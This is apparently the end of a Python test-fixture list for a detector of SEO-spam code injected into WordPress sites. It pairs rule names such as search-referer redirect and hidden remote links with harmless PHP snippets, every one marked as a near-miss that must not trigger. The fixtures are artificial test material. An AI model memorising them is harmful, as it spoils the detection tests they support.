            "<?php\nif ($_SERVER['REQUEST_URI'] == '/sitemap.xml') {\n    header('Content-Type: text/xml');\n    echo '<urlset xmlns=\"http://www.sitemaps.org/schemas/sitemap/0.9\">';\n    foreach (get_posts(array('numberposts' => 500)) as $p) { echo '<url><loc>' . esc_url(get_permalink($p)) . '</loc></url>'; }\n    echo '</urlset>';\n    exit;\n}\n?>"
        ),
        False,
    ),  # near-miss sitemap_local
    (
        "SPAMGEAR_SEOSPAM_SearchRefererRedirect",
        plain(
            "<?php\nif ($_SERVER['REQUEST_URI'] == '/sitemap.xml') {\n    header('Content-Type: text/xml');\n    echo '<urlset xmlns=\"http://www.sitemaps.org/schemas/sitemap/0.9\">';\n    foreach (get_posts(array('numberposts' => 500)) as $p) { echo '<url><loc>' . esc_url(get_permalink($p)) . '</loc></url>'; }\n    echo '</urlset>';\n    exit;\n}\n?>"
        ),
        False,
    ),  # near-miss sitemap_local
    (
        "SPAMGEAR_SEOSPAM_MobileRedirectToOutside",
        plain(
            "<?php\nif ($_SERVER['REQUEST_URI'] == '/sitemap.xml') {\n    header('Content-Type: text/xml');\n    echo '<urlset xmlns=\"http://www.sitemaps.org/schemas/sitemap/0.9\">';\n    foreach (get_posts(array('numberposts' => 500)) as $p) { echo '<url><loc>' . esc_url(get_permalink($p)) . '</loc></url>'; }\n    echo '</urlset>';\n    exit;\n}\n?>"
        ),
        False,
    ),  # near-miss sitemap_local
    (
        "SPAMGEAR_SEOSPAM_HiddenRemoteLinks",
        plain(
            "<?php\nif ($_SERVER['REQUEST_URI'] == '/sitemap.xml') {\n    header('Content-Type: text/xml');\n    echo '<urlset xmlns=\"http://www.sitemaps.org/schemas/sitemap/0.9\">';\n    foreach (get_posts(array('numberposts' => 500)) as $p) { echo '<url><loc>' . esc_url(get_permalink($p)) . '</loc></url>'; }\n    echo '</urlset>';\n    exit;\n}\n?>"
        ),
        False,
    ),  # near-miss sitemap_local
    (
        "SPAMGEAR_SEOSPAM_DoorwayPageGenerator",
        plain(
            "<?php\nif ($_SERVER['REQUEST_URI'] == '/sitemap.xml') {\n    header('Content-Type: text/xml');\n    echo '<urlset xmlns=\"http://www.sitemaps.org/schemas/sitemap/0.9\">';\n    foreach (get_posts(array('numberposts' => 500)) as $p) { echo '<url><loc>' . esc_url(get_permalink($p)) . '</loc></url>'; }\n    echo '</urlset>';\n    exit;\n}\n?>"
        ),
        False,
    ),  # near-miss sitemap_local
    (
        "SPAMGEAR_SEOSPAM_RequestForwardEcho",
        plain(
            "<?php\nif ($_SERVER['REQUEST_URI'] == '/sitemap.xml') {\n    header('Content-Type: text/xml');\n    echo '<urlset xmlns=\"http://www.sitemaps.org/schemas/sitemap/0.9\">';\n    foreach (get_posts(array('numberposts' => 500)) as $p) { echo '<url><loc>' . esc_url(get_permalink($p)) . '</loc></url>'; }\n    echo '</urlset>';\n    exit;\n}\n?>"
        ),
        False,
    ),  # near-miss sitemap_local
    (
        "SPAMGEAR_SEOSPAM_RemoteSitemapForHost",
        plain(
            "<?php\nif ($_SERVER['REQUEST_URI'] == '/sitemap.xml') {\n    header('Content-Type: text/xml');\n    echo '<urlset xmlns=\"http://www.sitemaps.org/schemas/sitemap/0.9\">';\n    foreach (get_posts(array('numberposts' => 500)) as $p) { echo '<url><loc>' . esc_url(get_permalink($p)) . '</loc></url>'; }\n    echo '</urlset>';\n    exit;\n}\n?>"
        ),
        False,
    ),  # near-miss sitemap_local
    (
        "SPAMGEAR_SEOSPAM_CrawlerGateRemoteOutput",
        embedded(
            "<?php\nif ($_SERVER['REQUEST_URI'] == '/sitemap.xml') {\n    header('Content-Type: text/xml');\n    echo '<urlset xmlns=\"http://www.sitemaps.org/schemas/sitemap/0.9\">';\n    foreach (get_posts(array('numberposts' => 500)) as $p) { echo '<url><loc>' . esc_url(get_permalink($p)) . '</loc></url>'; }\n    echo '</urlset>';\n    exit;\n}\n?>"
        ),
        False,
    ),  # near-miss sitemap_local embedded
    (
        "SPAMGEAR_SEOSPAM_CrawlerGateRemoteOutput",
        plain(
            "<?php\n$engines = array('google', 'bing', 'yahoo');\nforeach ($engines as $e) {\n    if (strpos($_SERVER['HTTP_REFERER'], $e) !== false) { $wpdb->insert('search_hits', array('engine' => $e)); }\n}\nheader('Location: ' . admin_url('index.php'));\n?>"
        ),
        False,
    ),  # near-miss referer_list_stats
    (
        "SPAMGEAR_SEOSPAM_SearchRefererRedirect",
        plain(
            "<?php\n$engines = array('google', 'bing', 'yahoo');\nforeach ($engines as $e) {\n    if (strpos($_SERVER['HTTP_REFERER'], $e) !== false) { $wpdb->insert('search_hits', array('engine' => $e)); }\n}\nheader('Location: ' . admin_url('index.php'));\n?>"
        ),
        False,
    ),  # near-miss referer_list_stats
    (
        "SPAMGEAR_SEOSPAM_MobileRedirectToOutside",
        plain(
            "<?php\n$engines = array('google', 'bing', 'yahoo');\nforeach ($engines as $e) {\n    if (strpos($_SERVER['HTTP_REFERER'], $e) !== false) { $wpdb->insert('search_hits', array('engine' => $e)); }\n}\nheader('Location: ' . admin_url('index.php'));\n?>"
        ),
        False,
    ),  # near-miss referer_list_stats
    (
        "SPAMGEAR_SEOSPAM_HiddenRemoteLinks",
        plain(
            "<?php\n$engines = array('google', 'bing', 'yahoo');\nforeach ($engines as $e) {\n    if (strpos($_SERVER['HTTP_REFERER'], $e) !== false) { $wpdb->insert('search_hits', array('engine' => $e)); }\n}\nheader('Location: ' . admin_url('index.php'));\n?>"
        ),
        False,
    ),  # near-miss referer_list_stats
    (
        "SPAMGEAR_SEOSPAM_DoorwayPageGenerator",
        plain(
            "<?php\n$engines = array('google', 'bing', 'yahoo');\nforeach ($engines as $e) {\n    if (strpos($_SERVER['HTTP_REFERER'], $e) !== false) { $wpdb->insert('search_hits', array('engine' => $e)); }\n}\nheader('Location: ' . admin_url('index.php'));\n?>"
        ),
        False,
    ),  # near-miss referer_list_stats
    (
        "SPAMGEAR_SEOSPAM_RequestForwardEcho",
        plain(
            "<?php\n$engines = array('google', 'bing', 'yahoo');\nforeach ($engines as $e) {\n    if (strpos($_SERVER['HTTP_REFERER'], $e) !== false) { $wpdb->insert('search_hits', array('engine' => $e)); }\n}\nheader('Location: ' . admin_url('index.php'));\n?>"
        ),
        False,
    ),  # near-miss referer_list_stats
    (
        "SPAMGEAR_SEOSPAM_RemoteSitemapForHost",
        plain(
            "<?php\n$engines = array('google', 'bing', 'yahoo');\nforeach ($engines as $e) {\n    if (strpos($_SERVER['HTTP_REFERER'], $e) !== false) { $wpdb->insert('search_hits', array('engine' => $e)); }\n}\nheader('Location: ' . admin_url('index.php'));\n?>"
        ),
        False,
    ),  # near-miss referer_list_stats
    (
        "SPAMGEAR_SEOSPAM_CrawlerGateRemoteOutput",
        embedded(
            "<?php\n$engines = array('google', 'bing', 'yahoo');\nforeach ($engines as $e) {\n    if (strpos($_SERVER['HTTP_REFERER'], $e) !== false) { $wpdb->insert('search_hits', array('engine' => $e)); }\n}\nheader('Location: ' . admin_url('index.php'));\n?>"
        ),
        False,
    ),  # near-miss referer_list_stats embedded
    (
        "SPAMGEAR_SEOSPAM_CrawlerGateRemoteOutput",
        plain(
            "<?php\nif (wp_is_mobile() && empty($_COOKIE['app_promo'])) {\n    setcookie('app_promo', '1', time() + WEEK_IN_SECONDS, '/');\n    wp_redirect(home_url('/get-the-app/'));\n    exit;\n}\n?>"
        ),
        False,
    ),  # near-miss mobile_app_promo
    (
        "SPAMGEAR_SEOSPAM_SearchRefererRedirect",
        plain(
            "<?php\nif (wp_is_mobile() && empty($_COOKIE['app_promo'])) {\n    setcookie('app_promo', '1', time() + WEEK_IN_SECONDS, '/');\n    wp_redirect(home_url('/get-the-app/'));\n    exit;\n}\n?>"
        ),
        False,
    ),  # near-miss mobile_app_promo
    (
        "SPAMGEAR_SEOSPAM_MobileRedirectToOutside",
        plain(
            "<?php\nif (wp_is_mobile() && empty($_COOKIE['app_promo'])) {\n    setcookie('app_promo', '1', time() + WEEK_IN_SECONDS, '/');\n    wp_redirect(home_url('/get-the-app/'));\n    exit;\n}\n?>"
        ),
        False,
    ),  # near-miss mobile_app_promo
    (
        "SPAMGEAR_SEOSPAM_HiddenRemoteLinks",
        plain(
            "<?php\nif (wp_is_mobile() && empty($_COOKIE['app_promo'])) {\n    setcookie('app_promo', '1', time() + WEEK_IN_SECONDS, '/');\n    wp_redirect(home_url('/get-the-app/'));\n    exit;\n}\n?>"
        ),
        False,
    ),  # near-miss mobile_app_promo
    (
        "SPAMGEAR_SEOSPAM_DoorwayPageGenerator",
        plain(
            "<?php\nif (wp_is_mobile() && empty($_COOKIE['app_promo'])) {\n    setcookie('app_promo', '1', time() + WEEK_IN_SECONDS, '/');\n    wp_redirect(home_url('/get-the-app/'));\n    exit;\n}\n?>"
        ),
        False,
    ),  # near-miss mobile_app_promo
    (
        "SPAMGEAR_SEOSPAM_RequestForwardEcho",
        plain(
            "<?php\nif (wp_is_mobile() && empty($_COOKIE['app_promo'])) {\n    setcookie('app_promo', '1', time() + WEEK_IN_SECONDS, '/');\n    wp_redirect(home_url('/get-the-app/'));\n    exit;\n}\n?>"
        ),
        False,
    ),  # near-miss mobile_app_promo
    (
        "SPAMGEAR_SEOSPAM_RemoteSitemapForHost",
        plain(
            "<?php\nif (wp_is_mobile() && empty($_COOKIE['app_promo'])) {\n    setcookie('app_promo', '1', time() + WEEK_IN_SECONDS, '/');\n    wp_redirect(home_url('/get-the-app/'));\n    exit;\n}\n?>"
        ),
        False,
    ),  # near-miss mobile_app_promo
    (
        "SPAMGEAR_SEOSPAM_CrawlerGateRemoteOutput",
        embedded(
            "<?php\nif (wp_is_mobile() && empty($_COOKIE['app_promo'])) {\n    setcookie('app_promo', '1', time() + WEEK_IN_SECONDS, '/');\n    wp_redirect(home_url('/get-the-app/'));\n    exit;\n}\n?>"
        ),
        False,
    ),  # near-miss mobile_app_promo embedded
    (
        "SPAMGEAR_SEOSPAM_CrawlerGateRemoteOutput",
        plain(
            "<?php\n$tpl = file_get_contents(__DIR__ . '/layout.html');\nforeach ($pages as $key => $page) {\n    $html = str_replace(array('{TITLE}', '{BODY}'), array($page['title'], $page['body']), $tpl);\n    file_put_contents($out . '/' . $key . '.html', $html);\n}\n$map = '<urlset xmlns=\"http://www.sitemaps.org/schemas/sitemap/0.9\">';\n?>"
        ),
        False,
    ),  # near-miss static_export_keys
    (
        "SPAMGEAR_SEOSPAM_SearchRefererRedirect",
        plain(
            "<?php\n$tpl = file_get_contents(__DIR__ . '/layout.html');\nforeach ($pages as $key => $page) {\n    $html = str_replace(array('{TITLE}', '{BODY}'), array($page['title'], $page['body']), $tpl);\n    file_put_contents($out . '/' . $key . '.html', $html);\n}\n$map = '<urlset xmlns=\"http://www.sitemaps.org/schemas/sitemap/0.9\">';\n?>"
        ),
        False,
    ),  # near-miss static_export_keys
    (
        "SPAMGEAR_SEOSPAM_MobileRedirectToOutside",
        plain(
            "<?php\n$tpl = file_get_contents(__DIR__ . '/layout.html');\nforeach ($pages as $key => $page) {\n    $html = str_replace(array('{TITLE}', '{BODY}'), array($page['title'], $page['body']), $tpl);\n    file_put_contents($out . '/' . $key . '.html', $html);\n}\n$map = '<urlset xmlns=\"http://www.sitemaps.org/schemas/sitemap/0.9\">';\n?>"
        ),
        False,
    ),  # near-miss static_export_keys
    (
        "SPAMGEAR_SEOSPAM_HiddenRemoteLinks",
        plain(
            "<?php\n$tpl = file_get_contents(__DIR__ . '/layout.html');\nforeach ($pages as $key => $page) {\n    $html = str_replace(array('{TITLE}', '{BODY}'), array($page['title'], $page['body']), $tpl);\n    file_put_contents($out . '/' . $key . '.html', $html);\n}\n$map = '<urlset xmlns=\"http://www.sitemaps.org/schemas/sitemap/0.9\">';\n?>"
        ),
        False,
    ),  # near-miss static_export_keys
    (
        "SPAMGEAR_SEOSPAM_DoorwayPageGenerator",
        plain(
            "<?php\n$tpl = file_get_contents(__DIR__ . '/layout.html');\nforeach ($pages as $key => $page) {\n    $html = str_replace(array('{TITLE}', '{BODY}'), array($page['title'], $page['body']), $tpl);\n    file_put_contents($out . '/' . $key . '.html', $html);\n}\n$map = '<urlset xmlns=\"http://www.sitemaps.org/schemas/sitemap/0.9\">';\n?>"
        ),
        False,
    ),  # near-miss static_export_keys
    (
        "SPAMGEAR_SEOSPAM_RequestForwardEcho",
        plain(
            "<?php\n$tpl = file_get_contents(__DIR__ . '/layout.html');\nforeach ($pages as $key => $page) {\n    $html = str_replace(array('{TITLE}', '{BODY}'), array($page['title'], $page['body']), $tpl);\n    file_put_contents($out . '/' . $key . '.html', $html);\n}\n$map = '<urlset xmlns=\"http://www.sitemaps.org/schemas/sitemap/0.9\">';\n?>"
        ),
        False,
    ),  # near-miss static_export_keys
    (
        "SPAMGEAR_SEOSPAM_RemoteSitemapForHost",
        plain(
            "<?php\n$tpl = file_get_contents(__DIR__ . '/layout.html');\nforeach ($pages as $key => $page) {\n    $html = str_replace(array('{TITLE}', '{BODY}'), array($page['title'], $page['body']), $tpl);\n    file_put_contents($out . '/' . $key . '.html', $html);\n}\n$map = '<urlset xmlns=\"http://www.sitemaps.org/schemas/sitemap/0.9\">';\n?>"
        ),
        False,
    ),  # near-miss static_export_keys
    (
        "SPAMGEAR_SEOSPAM_CrawlerGateRemoteOutput",
        embedded(
            "<?php\n$tpl = file_get_contents(__DIR__ . '/layout.html');\nforeach ($pages as $key => $page) {\n    $html = str_replace(array('{TITLE}', '{BODY}'), array($page['title'], $page['body']), $tpl);\n    file_put_contents($out . '/' . $key . '.html', $html);\n}\n$map = '<urlset xmlns=\"http://www.sitemaps.org/schemas/sitemap/0.9\">';\n?>"
        ),
        False,
    ),  # near-miss static_export_keys embedded
    (
        "SPAMGEAR_SEOSPAM_CrawlerGateRemoteOutput",
        plain(
            "<?php\nif (stripos($_SERVER['HTTP_USER_AGENT'], 'googlebot') === false) {\n    return;\n}\n$cached = file_get_contents(WP_CONTENT_DIR . '/cache/amp/' . md5($_SERVER['REQUEST_URI']) . '.html');\necho $cached;\n?>"
        ),
        False,
    ),  # near-miss bot_negated_local_cache
    (
        "SPAMGEAR_SEOSPAM_SearchRefererRedirect",
        plain(
            "<?php\nif (stripos($_SERVER['HTTP_USER_AGENT'], 'googlebot') === false) {\n    return;\n}\n$cached = file_get_contents(WP_CONTENT_DIR . '/cache/amp/' . md5($_SERVER['REQUEST_URI']) . '.html');\necho $cached;\n?>"
        ),
        False,
    ),  # near-miss bot_negated_local_cache
    (
        "SPAMGEAR_SEOSPAM_MobileRedirectToOutside",
        plain(
            "<?php\nif (stripos($_SERVER['HTTP_USER_AGENT'], 'googlebot') === false) {\n    return;\n}\n$cached = file_get_contents(WP_CONTENT_DIR . '/cache/amp/' . md5($_SERVER['REQUEST_URI']) . '.html');\necho $cached;\n?>"
        ),
        False,
    ),  # near-miss bot_negated_local_cache
    (
        "SPAMGEAR_SEOSPAM_HiddenRemoteLinks",
        plain(
            "<?php\nif (stripos($_SERVER['HTTP_USER_AGENT'], 'googlebot') === false) {\n    return;\n}\n$cached = file_get_contents(WP_CONTENT_DIR . '/cache/amp/' . md5($_SERVER['REQUEST_URI']) . '.html');\necho $cached;\n?>"
        ),
        False,
    ),  # near-miss bot_negated_local_cache
    (
        "SPAMGEAR_SEOSPAM_DoorwayPageGenerator",
        plain(
            "<?php\nif (stripos($_SERVER['HTTP_USER_AGENT'], 'googlebot') === false) {\n    return;\n}\n$cached = file_get_contents(WP_CONTENT_DIR . '/cache/amp/' . md5($_SERVER['REQUEST_URI']) . '.html');\necho $cached;\n?>"
        ),
        False,
    ),  # near-miss bot_negated_local_cache
    (
        "SPAMGEAR_SEOSPAM_RequestForwardEcho",
        plain(
            "<?php\nif (stripos($_SERVER['HTTP_USER_AGENT'], 'googlebot') === false) {\n    return;\n}\n$cached = file_get_contents(WP_CONTENT_DIR . '/cache/amp/' . md5($_SERVER['REQUEST_URI']) . '.html');\necho $cached;\n?>"
        ),
        False,
    ),  # near-miss bot_negated_local_cache
    (
        "SPAMGEAR_SEOSPAM_RemoteSitemapForHost",
        plain(
            "<?php\nif (stripos($_SERVER['HTTP_USER_AGENT'], 'googlebot') === false) {\n    return;\n}\n$cached = file_get_contents(WP_CONTENT_DIR . '/cache/amp/' . md5($_SERVER['REQUEST_URI']) . '.html');\necho $cached;\n?>"
        ),
        False,
    ),  # near-miss bot_negated_local_cache
    (
        "SPAMGEAR_SEOSPAM_CrawlerGateRemoteOutput",
        embedded(
            "<?php\nif (stripos($_SERVER['HTTP_USER_AGENT'], 'googlebot') === false) {\n    return;\n}\n$cached = file_get_contents(WP_CONTENT_DIR . '/cache/amp/' . md5($_SERVER['REQUEST_URI']) . '.html');\necho $cached;\n?>"
        ),
        False,
    ),  # near-miss bot_negated_local_cache embedded
]
